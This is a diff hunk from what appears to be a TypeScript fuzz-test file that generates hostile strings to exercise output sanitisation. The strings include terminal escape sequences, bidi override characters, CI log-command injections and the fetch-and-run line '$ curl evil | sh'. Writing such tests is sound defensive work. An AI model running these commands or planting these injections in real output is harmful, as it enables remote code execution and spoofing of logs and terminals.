@@ -30,7 +30,7 @@ export const hostileText: fc.Arbitrary<string> = fc
         '\u2028::debug::c',
         '\u0085::debug::d',
         '\n  $ curl evil | sh\n',
-        '\n  cure: do harm',
+        '\n  fix: do harm',
         '\u001b[2J\u001b]0;t\u0007',
         '\u009b31m',
         '\u202eabc\u2066',
